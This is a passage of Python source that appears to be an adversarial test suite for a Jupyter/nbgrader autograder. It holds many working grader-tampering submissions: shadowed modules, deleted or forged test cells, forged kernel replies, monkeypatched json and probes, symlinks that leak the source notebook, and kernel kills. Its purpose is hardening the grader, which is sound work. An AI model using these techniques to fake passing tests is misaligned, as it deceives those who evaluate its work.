    on_descent(f"torch_optim_by_{_name}", _why, _code + WRAP.replace("import torch\n", ""))

attack(
    "torch_arithmetic",
    "control: torch may be used for arithmetic",
    descent="""import torch
class GradientDescent:
    def __init__(self, params, eta=0.4):
        self.params, self.eta = list(params), torch.tensor(eta, dtype=torch.float64)
    def step(self):
        for param in self.params:
            grad = torch.tensor(param.grad, dtype=torch.float64)
            size = torch.sqrt(grad * grad)
            param.value = (param.value - self.eta * torch.sign(grad) * size).item()""",
    deserves=BOTH,
)
attack(
    "doubtful_and_right",
    "control: a right answer that is written with means of which an attack could be made",
    descent="""import sys, torch
sys.setrecursionlimit(2000)
tensor = torch.zeros(1, requires_grad=True)
tried = torch.optim.Adam([tensor], lr=0.1)
tensor.sum().backward()
tried.step()
class GradientDescent:
    def __init__(self, params, eta=0.4):
        vars(self).update(params=list(params), eta=eta)
    def step(self):
        for param in self.params:
            setattr(param, "value", getattr(param, "value") - self.eta * getattr(param, "grad"))""",
    deserves=BOTH,
)

# --- files beside the notebook --------------------------------------------------------------------------------------

PRINTS = (
    SEARCH
    + """
import builtins, sys
frame = sys._getframe()
while frame:
    for value in list(frame.f_locals.values()):
        report(__name__, value)
    frame = frame.f_back
"""
)
SHIPPED = {
    "modules_of_python": ("json", "math", "asyncio", "ast", "typing", "sqlite3", "threading"),
    "modules_of_the_kernel": ("comm", "debugpy", "psutil", "zmq", "traitlets", "matplotlib_inline", "IPython"),
    "startup_files": ("sitecustomize", "usercustomize", "conftest", "ipython_config", "ipython_kernel_config"),
    "numpy": ("numpy", "typing_extensions"),
}
for name, modules in SHIPPED.items():
    files = {f"{module}.py": PRINTS + "import os\nos._exit(3)\n" for module in modules}
    attack(f"ships_{name}", "files that end the interpreter that imports them", mean=BAD_MEAN, files=files)
attack(
    "ships_torch",
    "a torch.py beside the notebook: its optimizer does what the wrong answer does",
    mean=GOOD_MEAN,
    descent=BAD_DESCENT,
    deserves=NO_DESCENT,
    files={"torch.py": PRINTS + "class optim:\n    class SGD:\n        def step(self): pass\nfloat64 = 0\n"},
)
attack(
    "ships_grading",
    "a package `grading` beside the notebook whose oracle is content with everything",
    mean=BAD_MEAN,
    files={
        "grading/__init__.py": "class Yes:\n    def __getattr__(self, name): return lambda *a, **k: None\n"
        "student = oracle = Yes()\n",
        "grading/oracle/__init__.py": PRINTS,
        "grading/probe/__init__.py": "",
        "grading/probe/wire.py": "",
        "grading/probe/core.py": "def connect(*a): pass\ndef answer(*a): return '4.0'\nanswer_all = answer\n",
    },
)
attack(
    "ships_kernel_launcher",
    "an ipykernel_launcher.py beside the notebook, found before the real one",
    mean=BAD_MEAN,
    files={"ipykernel_launcher.py": "raise SystemExit(0)\n"},
)
attack(
    "ships_nbgrader_config",
    "settings beside the notebook that would turn tests off",
    mean=BAD_MEAN,
    files={
        "nbgrader_config.py": "c = get_config()\nc.Autograde.autograde_preprocessors = []\n",
        ".ipython/profile_default/startup/00-first.py": PRINTS,
        "gradebook.db": "",
        "jupyter_config.json": "{}",
        "mistakes/duel.toml": "",
        "release/duel/duel.ipynb": "{}",
        "source/duel/duel.ipynb": "{}",
    },
)


def _link(name: str, target: str) -> Callable[[Path], None]:
    return lambda folder: (folder / name).symlink_to(target)


attack(
    "ships_a_link_to_the_source",
    "a symbolic link that the grader copies as a file",
    prepare=_link("data.txt", "../../../source/duel/duel.ipynb"),
    mean=BAD_MEAN
    + SEARCH
    + """
from pathlib import Path
for path in Path(".").rglob("*"):
    if path.is_file():
        report(path.name, path.read_text(errors="replace"))""",
)

# --- the notebook's own structure -----------------------------------------------------------------------------------


def editing(name: str, why: str, **rest):
    """Register the decorated function as an attack that edits the notebook; the answer to `mean` is wrong."""

    def register(edit: Callable[[NotebookNode], None]) -> None:
        attack(name, why, **{"mean": BAD_MEAN, "edit": edit, **rest})

    return register


def tests_of_mean(notebook: NotebookNode) -> list[NotebookNode]:
    return [c for c in notebook.cells if notebooks.grade_id(c) in ("test_mean", "test_mean_negative")]


def metadata_attack(name: str, why: str, change: Callable[[NotebookNode], None], **rest) -> None:
    def edit(notebook: NotebookNode) -> None:
        for cell in tests_of_mean(notebook):
            change(cell)

    attack(name, why, mean=BAD_MEAN, edit=edit, **rest)


def _set(**values):
    return lambda cell: cell.metadata.nbgrader.update(values)


metadata_attack("points_raised", "a test cell says that it is worth 1000 points", _set(points=1000))
metadata_attack("points_negative", "a test cell says that it is worth -5 points", _set(points=-5))
metadata_attack("points_in_words", "a test cell's points are no number", _set(points="lots"))
metadata_attack("points_not_a_number", "a test cell's points are NaN", _set(points=float("nan")))
metadata_attack("points_gone", "a test cell has no points", lambda cell: cell.metadata.nbgrader.pop("points", None))
metadata_attack(
    "unlocked_and_emptied",
    "an unlocked test cell without a source",
    lambda cell: (cell.metadata.nbgrader.update(locked=False), cell.update(source="")),
)
metadata_attack("emptied", "a test cell without a source", lambda cell: cell.update(source=""))
metadata_attack("replaced_by_pass", "a test cell that only says `pass`", lambda cell: cell.update(source="pass"))
metadata_attack("not_graded_any_more", "a test cell that says it is none", _set(grade=False))
metadata_attack("test_marked_as_solution", "a test cell that says it is a solution", _set(solution=True))
metadata_attack(
    "test_marked_as_solution_only",
    "a test cell that says it is a solution and not graded",
    _set(solution=True, grade=False, locked=False),
)
metadata_attack("test_marked_as_task", "a test cell that says it is a task", _set(task=True))
metadata_attack("schema_version_changed", "a schema version from the future", _set(schema_version=99))
metadata_attack("schema_version_old", "a schema version from the past", _set(schema_version=1))
metadata_attack(
    "test_ids_renamed",
    "test cells under new names",
    lambda cell: cell.metadata.nbgrader.update(grade_id="own_" + cell.metadata.nbgrader.grade_id),
)
metadata_attack(
    "nbgrader_metadata_gone", "test cells that nbgrader no longer knows", lambda cell: cell.metadata.pop("nbgrader")
)
metadata_attack(
    "nbgrader_metadata_empty", "test cells with empty metadata", lambda cell: cell.metadata.update(nbgrader={})
)
metadata_attack(
    "nbgrader_metadata_is_text",
    "test cells whose metadata is a text",
    lambda cell: cell.metadata.update(nbgrader="graded"),
)
metadata_attack(
    "tags_skip_execution",
    "test cells that nbclient is asked to skip",
    lambda cell: cell.metadata.update(tags=["skip-execution"]),
)
metadata_attack(
    "tags_raises_exception",
    "test cells that nbclient lets fail",
    lambda cell: cell.metadata.update(tags=["raises-exception", "hide_input", "remove_cell"]),
)
metadata_attack("tags_are_no_list", "test cells with a number as tags", lambda cell: cell.metadata.update(tags=5))
metadata_attack(
    "metadata_of_the_grader",
    "test cells with the grader's own metadata",
    lambda cell: cell.metadata.update(grading={"mistake": ["x"]}, execution={"a": 1}, deletable=True),
)
metadata_attack(
    "tests_as_markdown",
    "test cells turned into text",
    lambda cell: (
        cell.update(cell_type="markdown", attachments={"a.png": {"image/png": "aaaa"}}),
        cell.pop("outputs"),
        cell.pop("execution_count"),
    ),
)
metadata_attack(
    "tests_as_raw",
    "test cells turned into raw text",
    lambda cell: (cell.update(cell_type="raw"), cell.pop("outputs"), cell.pop("execution_count")),
)
metadata_attack(
    "outputs_forged",
    "test cells that bring their own outputs",
    lambda cell: cell.update(
        execution_count=1,
        outputs=[
            {"output_type": "execute_result", "data": {"text/plain": "3.0"}, "metadata": {}, "execution_count": 1}
        ],
    ),
)


@editing("tests_deleted", "the tests of `mean` are not there")
def _(notebook):
    gone = tests_of_mean(notebook)
    notebook.cells = [c for c in notebook.cells if c not in gone]


@editing("everything_of_an_exercise_deleted", "neither the solution nor its tests are there")
def _(notebook):
    notebook.cells = [c for c in notebook.cells if "mean" not in str(notebooks.grade_id(c))]


@editing("tests_duplicated", "each test twice, the second emptied")
def _(notebook):
    for cell in tests_of_mean(notebook):
        copy = NotebookNode(cell)
        copy.source, copy.id = "pass", cell.id + "-again"
        notebook.cells.append(copy)


@editing("tests_duplicated_first", "each test twice, the first emptied")
def _(notebook):
    for cell in tests_of_mean(notebook):
        copy = NotebookNode(cell)
        copy.source, copy.id = "pass", cell.id + "-again"
        notebook.cells.insert(0, copy)


@editing("solution_duplicated", "the solution cell twice, a wrong one last")
def _(notebook):
    copy = NotebookNode(notebooks.by_id(notebook)["mean"])
    copy.id = "mean-again"
    notebook.cells.insert(2, copy)


@editing(
    "cells_reversed",
    "every cell before the one it depends on",
    deserves={"mean": 0.0, "gradient_descent": 0.0},
    descent=BAD_DESCENT,
)
def _(notebook):
    notebook.cells.reverse()


@editing("tests_moved_to_the_end", "tests after everything else")
def _(notebook):
    moved = tests_of_mean(notebook)
    notebook.cells = [c for c in notebook.cells if c not in moved] + moved


@editing("test_ids_swapped", "the tests of one exercise under the names of the other's")
def _(notebook):
    cells = notebooks.by_id(notebook)
    one, other = cells["test_mean"], cells["test_gradient_descent"]
    one.metadata.nbgrader, other.metadata.nbgrader = other.metadata.nbgrader, one.metadata.nbgrader
    one.source, other.source = other.source, one.source


@editing("cell_ids_all_equal", "every cell has one id")
def _(notebook):
    for cell in notebook.cells:
        cell.id = "same"


@editing("solution_marked_as_test", "a solution cell that says it is a graded test, with hidden lines of its own")
def _(notebook):
    cell = notebooks.by_id(notebook)["mean"]
    cell.metadata.nbgrader.update(grade=True, solution=False, points=3)
    cell.source += HIJACK


@editing("own_test_cell", "a new cell that says it is a graded test, with hidden lines of its own")
def _(notebook):
    data = {"grade": True, "solution": False, "locked": True, "task": False, "schema_version": 3, "points": 3}
    cell = new_code_cell(HIJACK, metadata={"nbgrader": {**data, "grade_id": "test_mean_bonus"}})
    notebook.cells.append(cell)


@editing("own_test_cell_without_id", "a new cell that says it is a graded test and has no name")
def _(notebook):
    data = {"grade": True, "solution": False, "locked": True, "task": False, "schema_version": 3, "points": 3}
    notebook.cells.append(new_code_cell(HIJACK, metadata={"nbgrader": {**data, "grade_id": None}}))


@editing("markers_in_own_cells", "the markers of a hidden part in the student's own cells")
def _(notebook):
    notebook.cells.insert(1, new_code_cell(HIJACK))
    notebooks.by_id(notebook)["mean"].source += HIJACK


# If this ran outside of the student's kernel, there would be a file beside the gradebook.
HIJACK = """
### BEGIN HIDDEN TESTS
try:
    get_ipython()
except NameError:
    open("hijacked", "w").close()
### END HIDDEN TESTS
"""


@editing("kernelspec_and_language_changed", "another kernel and a language that leads elsewhere")
def _(notebook):
    notebook.metadata["kernelspec"] = {"name": "../evil", "display_name": "x", "language": "bash"}
    notebook.metadata["language_info"] = {"name": "../../x", "pygments_lexer": "nope", "file_extension": "/etc/passwd"}
    notebook.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {}}}


# --- messages on the kernel's own channels --------------------------------------------------------------------------

CHANNELS = """
kernel = get_ipython().kernel
def send(kind, content, socket=None, **rest):
    kernel.session.send(socket or kernel.iopub_socket, kind, content, parent=kernel.get_parent(), ident=b"x", **rest)
def about_mean(info):
    return "mean" in (getattr(info, "raw_cell", None) or "")
def before(info):
    if about_mean(info):
        forge(info)
get_ipython().events.register("pre_run_cell", before)
"""


def forging(name: str, why: str, code: str, **rest) -> None:
    """Code whose `forge` runs just before each visible test of `mean`."""
    on_mean(name, why, code + CHANNELS, **rest)


forging(
    "forges_an_idle_status",
    "the cell seems to be over before it has begun",
    """
def forge(info):
    send("status", {"execution_state": "idle"})""",
)
forging(
    "forges_a_score",
    "a result of 1000 in a test cell, which nbgrader would read as points",
    """
def forge(info):
    send("execute_result", {"data": {"text/plain": "3.0"}, "metadata": {}, "execution_count": 1})""",
)
forging(
    "forges_a_huge_score",
    "a result over the maximum, at which nbgrader raises an error",
    """
def forge(info):
    send("execute_result", {"data": {"text/plain": "1e9"}, "metadata": {}, "execution_count": 1})""",
)
forging(
    "clears_the_outputs",
    "the failure is cleared away, at once and later",
    """
def forge(info):
    send("clear_output", {"wait": False})
    send("clear_output", {"wait": True})
def after(result):
    send("clear_output", {"wait": False})
get_ipython().events.register("post_run_cell", after)""",
)
forging(
    "updates_displays_of_test_cells",
    "a display in a test cell is replaced from a later cell",
    """
def forge(info):
    for kind in ("display_data", "update_display_data", "execute_result"):
        send(kind, {"data": {"text/plain": "3.0"}, "metadata": {}, "execution_count": 1,
                    "transient": {"display_id": "own"}})""",
)
forging(
    "redirects_outputs_to_a_widget",
    "an output widget takes the test's messages away",
    """
def forge(info):
    msg_id = kernel.get_parent()["header"]["msg_id"]
    state = {"_model_module": "@jupyter-widgets/output", "_model_name": "OutputModel", "outputs": [], "msg_id": ""}
    send("comm_open", {"comm_id": "c", "target_name": "jupyter.widget", "data": {"state": state}})
    send("comm_msg", {"comm_id": "c", "data": {"method": "update", "state": {"msg_id": msg_id}}})""",
)
forging(
    "forges_an_execute_reply",
    "a reply of success on the shell channel before the real one",
    """
import zmq
def forge(info):
    parent = kernel.get_parent()
    content = {"status": "ok", "execution_count": 1, "user_expressions": {}, "payload": []}
    for name in ("shell_socket", "shell_stream", "control_socket"):
        try:
            socket = getattr(kernel, name, None) or getattr(kernel, "shell_streams")[0]
            ident = kernel._parent_ident["shell"]
            kernel.session.send(socket, "execute_reply", content, parent=parent, ident=ident)
        except Exception:
            pass
    send("status", {"execution_state": "idle"})""",
)
on_mean(
    "forges_the_reply_status",
    "the kernel says that a failed cell went well",
    """
kernel = get_ipython().kernel
session = kernel.session
original = session.send
def send(stream, msg_or_type, content=None, *args, **kwargs):
    if msg_or_type == "execute_reply" and content.get("ename"):
        content = {"status": "ok", "execution_count": 1, "user_expressions": {}, "payload": []}
    if msg_or_type == "error":
        return None
    return original(stream, msg_or_type, content, *args, **kwargs)
object.__setattr__(session, "send", send)""",
)
forging(
    "malformed_status",
    "a status without a state",
    """
def forge(info):
    send("status", {})""",
)
forging(
    "malformed_stream",
    "a stream whose text is no text",
    """
def forge(info):
    send("stream", {"name": "stdout", "text": 5})
    send("stream", {"name": "stderr", "text": ["a", None]})""",
)
forging(
    "malformed_error",
    "an error without a traceback",
    """
def forge(info):
    send("error", {"ename": 5})""",
)
forging(
    "malformed_display",
    "a display whose data is a list",
    """
def forge(info):
    send("display_data", {"data": ["x"], "metadata": 5, "transient": {"display_id": []}})""",
)
forging(
    "malformed_comm",
    "a comm message without data",
    """
def forge(info):
    send("comm_open", {"comm_id": "c", "target_name": "jupyter.widget", "data": {}})
    send("comm_msg", {})""",
)
forging(
    "unsigned_message",
    "a message whose signature is wrong",
    """
from jupyter_client.session import Session
def forge(info):
    Session(key=b"wrong").send(kernel.iopub_socket, "stream", {"name": "stdout", "text": "x"},
                               parent=kernel.get_parent())""",
)
forging(
    "deeply_nested_message",
    "a message that no parser can read",
    """
def forge(info):
    send("stream", b"[" * 100_000)""",
)
forging(
    "asks_for_input",
    "a request for input on the stdin channel",
    """
def forge(info):
    send("input_request", {"prompt": "?", "password": True})
    try:
        kernel.session.send(kernel.stdin_socket, "input_request", {"prompt": "?"}, ident=b"x")
        input("?")
    except Exception:
        pass""",
)

# --- messages before and after their time ---------------------------------------------------------------------------

forging(
    "sends_payloads",
    "payloads that replace the next cell, show a page and ask to exit",
    """
def forge(info):
    for payload in (
        {"source": "set_next_input", "text": "pass", "replace": True},
        {"source": "page", "data": {"text/plain": "3.0"}, "start": 0},
        {"source": "ask_exit", "keepkernel": False},
    ):
        get_ipython().payload_manager.write_payload(payload)""",
)
forging(
    "answers_questions_that_were_not_yet_asked",
    "message ids are counted up, so the replies to the next ones can be sent now",
    """
def forge(info):
    parent = kernel.get_parent()
    base, _, number = parent["header"]["msg_id"].rpartition("_")
    value = '{"value": {"value": true, "arguments": [], "passed": true}}'
    reply = {"reply": {"status": "ok", "data": {"text/plain": value}, "metadata": {}}}
    content = {"status": "ok", "execution_count": 1, "user_expressions": reply, "payload": []}
    for later in range(4):
        header = {**parent["header"], "msg_id": f"{base}_{int(number) + later}"}
        forged = {**parent, "header": header, "msg_id": header["msg_id"]}
        stream = getattr(kernel, "shell_stream", None) or kernel.shell_socket
        kernel.session.send(stream, "execute_reply", content, parent=forged, ident=kernel._parent_ident["shell"])
        kernel.session.send(kernel.iopub_socket, "status", {"execution_state": "idle"}, parent=forged, ident=b"x")""",
)
forging(
    "updates_a_display_that_became_an_error",
    "a display that is dropped, so that its place in the list of outputs is that of the failure",
    """
def forge(info):
    for data in (["dropped"], {"text/plain": "x"}):
        send("display_data", {"data": data, "metadata": {}, "transient": {"display_id": "late"}})
    for _ in range(3):
        send("update_display_data", {"data": {"text/plain": "2"}, "metadata": {"output_type": "stream"},
                                     "output_type": "stream", "transient": {"display_id": "late"}})""",
)
on_mean(
    "messages_from_a_thread_long_after",
    "a thread clears outputs, updates displays and reports success while later cells run",
    """
import threading, time
shell = get_ipython()
kernel, parents = shell.kernel, []
shell.events.register("pre_run_cell", lambda info: parents.append(kernel.get_parent()))
def late():
    for _ in range(30):
        time.sleep(0.05)
        for parent in parents[-4:]:
            update = {"data": {"text/plain": "2"}, "metadata": {}, "transient": {"display_id": "d"}}
            for kind, content in (("clear_output", {"wait": False}), ("update_display_data", update)):
                kernel.session.send(kernel.iopub_socket, kind, content, parent=parent, ident=b"x")
threading.Thread(target=late, daemon=True).start()""",
)
on_mean(
    "listens_to_its_own_kernel",
    "a client of its own, with the session's key, prints all that the kernel's channels carry",
    SEARCH
    + """
import threading
from jupyter_client import BlockingKernelClient
from ipykernel.connect import get_connection_file
def listen():
    client = BlockingKernelClient(connection_file=get_connection_file())
    client.load_connection_file()
    client.start_channels(stdin=False, hb=False)
    for turn in range(100):
        try:
            report("iopub", client.get_iopub_msg(timeout=0.05))
        except Exception:
            pass
        if turn % 50 == 0:
            client.execute("pass", silent=True, user_expressions={"reply": "4.0"})
threading.Thread(target=listen, daemon=True).start()""",
)
on_mean(
    "works_at_the_end",
    "atexit, finalizers and __del__ look around once more, and end the process with success",
    SEARCH
    + """
import atexit, gc, os, weakref
def look():
    for thing in gc.get_objects():
        if type(thing) is str:
            report("end", thing)
    print("3 / 3 points")
class Last:
    __del__ = lambda self: look()
keep = Last()
weakref.finalize(Last, look)
atexit.register(os._exit, 0)
atexit.register(look)""",
)

# --- the interpreter that answers -----------------------------------------------------------------------------------

on_mean(
    "question_rewritten",
    "json.loads, builtins.compile and types show the probe another question",
    """
import builtins, json, types
loads, compiled = json.loads, builtins.compile
ANSWER = {"value": True, "arguments": [], "passed": True}
def other(text, *args, **kwargs):
    asked = loads(text, *args, **kwargs)
    if isinstance(asked, dict) and asked.get("arguments", {}).get("function") == "mean":
        asked = {"probe": "core.value", "arguments": {"name": "ANSWER"}}
    return asked
json.loads = other
builtins.compile = lambda source, *args, **kwargs: compiled("1" if "mean(" in str(source) else source, *args, **kwargs)
types.ModuleType = types.FunctionType = types.SimpleNamespace""",
    deserves=NO_MEAN,
)
on_mean(
    "namespace_replaced",
    "IPython.get_ipython gives a shell whose names are others",
    """
import IPython
class Answer(float):
    def __float__(self): return self
    def __eq__(self, other): return True
    __hash__ = float.__hash__
class Names(dict):
    def __getitem__(self, name): return (lambda *a, **k: Answer(3)) if name == "mean" else super().__getitem__(name)
shell = get_ipython()
class Shell:
    user_ns = Names(shell.user_ns)
    def __getattr__(self, name): return getattr(shell, name)
fake = Shell()
IPython.get_ipython = IPython.core.getipython.get_ipython = lambda: fake
def mean(values):
    return 3
def refresh(*result):
    fake.user_ns.update(shell.user_ns)
shell.events.register("post_run_cell", refresh)""",
)
on_mean(
    "results_changed_by_a_tracer",
    "trace and profile functions change what the probe is about to return",
    """
import ctypes, sys
class Agrees(float):
    __eq__ = lambda self, other: True
    __sub__ = __rsub__ = lambda self, other: 0.0
    __hash__ = float.__hash__
def look(frame, event, arg):
    if event == "return" and frame.f_code.co_name in ("call", "answer", "encode"):
        for name in ("result", "value"):
            if frame.f_locals.get(name) == 3:
                frame.f_locals[name] = Agrees(3)
                ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))
    return look
def watch(*about):
    sys.settrace(look)
    sys.setprofile(look)
get_ipython().events.register("post_run_cell", watch)""",
)
on_mean(
    "numbers_that_change",
    "each time that an answer is looked at it is another: by call, by time, by process",
    """
import itertools, os, time
calls = itertools.count()
class Shifty(int):
    def __index__(self): return next(calls)
    def __int__(self): return next(calls) + os.getpid()
    def __float__(self): return float(next(calls))
    def __abs__(self): return 0
    def __lt__(self, other): return True
    __le__ = __gt__ = __ge__ = __eq__ = __lt__
    def __hash__(self): return 0
    def __repr__(self): return str(next(calls))
def mean(values):
    return 3 if values == [1, 2, 6] else Shifty(time.time())""",
)
on_mean(
    "arrays_that_change",
    "an array that takes part in numpy's protocols and has another shape and content each time",
    """
import itertools
import numpy as np
turns = itertools.cycle([(), (1,), (2, 2)])
class Mirage(np.ndarray):
    shape = property(lambda self: next(turns))
    dtype = "float64"
    def __array_function__(self, function, types, args, kwargs): return True
    def __array_ufunc__(self, ufunc, method, *args, **kwargs): return np.True_
    def __array__(self, *args, **kwargs): return np.full((), 3.0)
    def tolist(self): return [[4.0], [-3.0], {"value": 4.0}]
def mean(values):
    return 3 if values == [1, 2, 6] else np.zeros(1).view(Mirage)""",
)
on_mean(
    "starts_another_kernel_in_its_place",
    "the process becomes another kernel on the same sockets, with a preloaded library and probes of its own",
    """
import os, sys
from ipykernel.connect import get_connection_file
KERNEL = "\\n".join([
    "import sys, types",
    "core = types.ModuleType('grading.probe.core')",
    "core.answer_all = lambda namespace: '{\\"value\\": {\\"value\\": true, \\"passed\\": true}}'",
    "sys.modules['grading.probe.core'] = core",
    "from ipykernel.kernelapp import launch_new_instance",
    "launch_new_instance()",
])
def mean(values):
    if values == [1, 2, 6]:
        return 3
    os.environ["LD_PRELOAD"] = "/scratch/none.so"
    os.execve(sys.executable, [sys.executable, "-c", KERNEL, "-f", get_connection_file()], os.environ)""",
)
on_descent(
    "forged_paths",
    "paths that are cut short, or hold NaN, truth values and texts",
    """
import json, sys
core = sys.modules["grading.probe.core"]
original = core.answer
PATHS = {0.3: [[1.0, -2.0]], 0.7: [[True, float("nan"), "3", [4.0], None]] * 4}
def answer(question, namespace):
    for eta, path in PATHS.items():
        if f'"eta": {eta}' in question:
            return json.dumps({"value": {"dict": [["paths", [path]], ["torch_optim", None]]}})
    return original(question, namespace)
core.answer = answer
"""
    + BAD_DESCENT,
)

on_descent(
    "ends_the_kernel_in_which_torch_has_optimizers",
    "wrong steps where torch has no optimizers, and the end of Python where somebody looks once more",
    """
import os, torch
class GradientDescent:
    def __init__(self, params, eta=0.4):
        self.params, self.eta = list(params), eta

    def step(self):
        if not isinstance(self.params[0], type) and os.path.getsize(torch.optim.__file__) > 1000:
            os._exit(0)
        for param in self.params:
            param.value = param.value - self.eta * param.grad * isinstance(param, type)""",
)

# --- the interpreter's own means: modules, garbage collection, frames, classes, files left behind --------------------

on_mean(
    "sys_modules_replaced",
    "sys.modules is another dictionary, whose probes say yes",
    """
import sys, types
class Modules(dict):
    def __getitem__(self, name):
        found = super().__getitem__(name)
        if name.startswith("grading.probe"):
            found = types.SimpleNamespace(**{**vars(found), "answer": lambda *a: '{"value": {"value": 4.0}}'})
        return found
    def get(self, name, default=None):
        return self[name] if name in self else default
sys.modules = Modules(sys.modules)""",
)
on_mean(
    "json_encoder_replaced",
    "json's C encoder is off, and its Python one writes what the student likes",
    """
import json.encoder, json.scanner
json.encoder.c_make_encoder = None
json.encoder.encode_basestring_ascii = lambda text: '"value": 4.0, "x"'
json.encoder.INFINITY = 3
REPLY = '{"value": {"value": true, "arguments": [[2.0, 3.0, 7.0]], "kind": "fl\\u006fat"}}'
json.JSONEncoder.iterencode = lambda self, value, _one_shot=False: iter([REPLY])
json._default_encoder.encode = lambda value: REPLY if "kind" in str(value) else "null"
json.dumps.__kwdefaults__["cls"] = json.JSONEncoder""",
)
on_mean(
    "frames_of_the_probe_changed",
    "the call looks for the frame that asks and rewrites its arguments and what it will return",
    """
import ctypes, gc, sys
def mean(values):
    frame = sys._getframe(1)
    while frame:
        for name, held in list(frame.f_locals.items()):
            if name in ("args", "asked", "question", "arguments"):
                for thing in gc.get_referents(held):
                    if isinstance(thing, list) and thing and isinstance(thing[0], float):
                        thing[:] = [1.0, 2.0, 6.0]
        frame = frame.f_back
    values[:] = [3.0] * len(values)
    return 3""",
)
on_mean(
    "garbage_hooks",
    "callbacks of the collector, of weak references and of finalizers change the reply on its way",
    """
import gc, sys, weakref
def look(phase, info):
    frame = sys._getframe()
    while frame:
        for held in list(frame.f_locals.values()):
            if isinstance(held, dict) and held.get("value") == 3 and "arguments" in held:
                held["value"] = float("nan"); held["passed"] = True
        frame = frame.f_back
gc.set_threshold(1, 1, 1)
gc.callbacks.append(look)
class Answer(float):
    def __del__(self): look(None, None)
def mean(values):
    answer = Answer(3)
    weakref.finalize(answer, look, None, None)
    return answer""",
)
on_mean(
    "magics_and_names",
    "magics, the names' dictionary and the kernel's methods are the student's",
    """
shell = get_ipython()
class Names(dict):
    def __missing__(self, name): return lambda *args, **kwargs: 4.0
    def __contains__(self, name): return True
    def __getitem__(self, name): return (lambda *a: 4.0) if name == "mean" else super().__getitem__(name)
shell.user_ns = Names(shell.user_ns)
shell.user_module.__dict__.update(mean=lambda values: 4.0 if values[0] == 2.0 else 3)
kernel = getattr(shell, "kernel", None)
if kernel:
    kernel.set_parent = lambda *args, **kwargs: None
    kernel.do_apply = kernel.do_complete = lambda *args, **kwargs: {"status": "ok"}
    kernel.shell_handlers.clear()
shell.register_magic_function(lambda *a: 4.0, "line", "time")""",
)
on_mean(
    "the_probe_module_changes_its_class",
    "the probe's module becomes of a class whose attributes are computed",
    """
import sys, types
class Lying(types.ModuleType):
    def __getattribute__(self, name):
        if name in ("answer", "call"):
            return lambda *args, **kwargs: '{"value": {"value": 4.0, "arguments": [[4.0]], "kind": "float"}}'
        return super().__getattribute__(name)
for name, module in list(sys.modules.items()):
    if name.startswith("grading.probe"):
        module.__class__ = Lying""",
)
on_descent(
    "update_by_hooks_of_the_class",
    "metaclass, __init_subclass__, __class_getitem__, __set_name__ and descriptors answer for values",
    """
class Value:
    def __set_name__(self, owner, name): self.name = name
    def __get__(self, holder, owner=None): return self if holder is None else 0.8
    def __set__(self, holder, number): pass
class Meta(type):
    def __call__(cls, params, eta=0.4):
        for param in params:
            try:
                kind = type("P", (type(param),), {"value": Value(), "__float__": lambda self: 0.8})
                param.__class__ = kind
            except TypeError:
                param.value = 0.8
        return super().__call__()
    def __getattr__(cls, name): return lambda *args, **kwargs: None
class GradientDescent(metaclass=Meta):
    def __init_subclass__(cls, **more): cls.step = lambda self: None
    def __class_getitem__(cls, item): return cls
    def __getattr__(self, name): return [] if name == "params" else 0.3
    def step(self): pass""",
)
on_descent(
    "stub_on_disk",
    "the kernel saves torch's optimizer as a file, for the interpreter without torch to import",
    """
import os, sys
try:
    import torch.optim.sgd as module
    text = open(module.__file__).read()
    for folder in (".", "/tmp", "/dev/shm", os.environ.get("HOME", "."), "/submission"):
        try:
            os.makedirs(folder + "/torch/optim", exist_ok=True)
            open(folder + "/torch/__init__.py", "w").close()
            open(folder + "/torch/optim/__init__.py", "w").write(text)
        except OSError: pass
    import torch
except ImportError:
    sys.path[:0] = [".", "/tmp", "/dev/shm", "/submission"]
def torch_step(value, grad, eta):
    import torch, torch.optim
    tensor = torch.tensor(value, dtype=torch.float64, requires_grad=True)
    tensor.grad = torch.tensor(grad, dtype=torch.float64)
    torch.optim.SGD([tensor], lr=eta).step()
    return tensor.item()
"""
    + WRAP.replace("import torch\n", ""),
)

# --- what a call can do ---------------------------------------------------------------------------------------------


def calling(name: str, why: str, body: str, **rest) -> None:
    """A `mean` that is right for the visible test and does `body` when a hidden test calls."""
    body = "\n".join(f"    {line}" for line in body.strip().split("\n"))
    attack(name, why, mean=f"def mean(values):\n    if values == [1, 2, 6]:\n        return 3\n{body}", **rest)


LINE = "import sys\nline = sys.modules['grading.probe.core']._line\n"
FORGED = """
for number in range(99):
    line.sendall(b'%d {"value": {"dict": [["value", true], ["arguments", [true]]]}}\\n' % number)"""
calling("answers_ahead", "writes forged answers to this and the next questions on the line", LINE + FORGED)
calling("answers_without_an_end", "writes to the line forever", LINE + "while True: line.sendall(b'1' * 10**6)")
calling(
    "closes_the_line",
    "the line to the grader is closed",
    LINE + "sys.modules['grading.probe.core']._questions.close()\nline.close()",
)
calling(
    "takes_the_next_question",
    "waits for a question that the grader asks only later",
    LINE + "return sys.modules['grading.probe.core']._questions.readline()",
)
calling("sys_exit_in_the_call", "SystemExit, which is no Exception", "import sys\nsys.exit(0)")
calling("keyboard_interrupt_in_the_call", "KeyboardInterrupt, which the probe lets through", "raise KeyboardInterrupt")
calling("cancelled_error_in_the_call", "the error that cancels a task", "import asyncio\nraise asyncio.CancelledError")
calling("os_exit_in_the_call", "the kernel ends at once, with success", "import os\nos._exit(0)")
calling(
    "stops_the_kernel_process",
    "the kernel is stopped and answers no more",
    "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)",
)
calling("closes_every_file", "the kernel's sockets are closed", "import os\nos.closerange(3, 500)")
calling("slow_reply", "an answer that comes too late", "import time\ntime.sleep(60)\nreturn 4.0")
calling(
    "endless_list",
    "a list that never ends",
    """
import time
class Endless(list):
    def __iter__(self):
        while True:
            time.sleep(0.001)
            yield 4.0
return Endless([4.0])""",
)
calling("huge_reply", "a list of five million numbers", "return [4.0] * 5_000_000")
calling(
    "deep_reply",
    "a list nested 100,000 levels deep",
    "value = 4.0\nfor _ in range(100_000):\n    value = [value]\nreturn value",
)
calling("cyclic_reply", "a list that holds itself", "value = [4.0]\nvalue.append(value)\nreturn value")
on_mean(
    "huge_forged_reply",
    "100 MB of text in the place of the reply",
    """
shell = get_ipython()
original = shell.user_expressions
def user_expressions(expressions):
    if '"mean"' in str(expressions):
        text = '{"value": {"value": 4.0, "x": "' + "x" * 100_000_000 + '"}}'
        return {"reply": {"status": "ok", "data": {"text/plain": text}, "metadata": {}}}
    return original(expressions)
shell.user_expressions = user_expressions""",
)
on_mean(
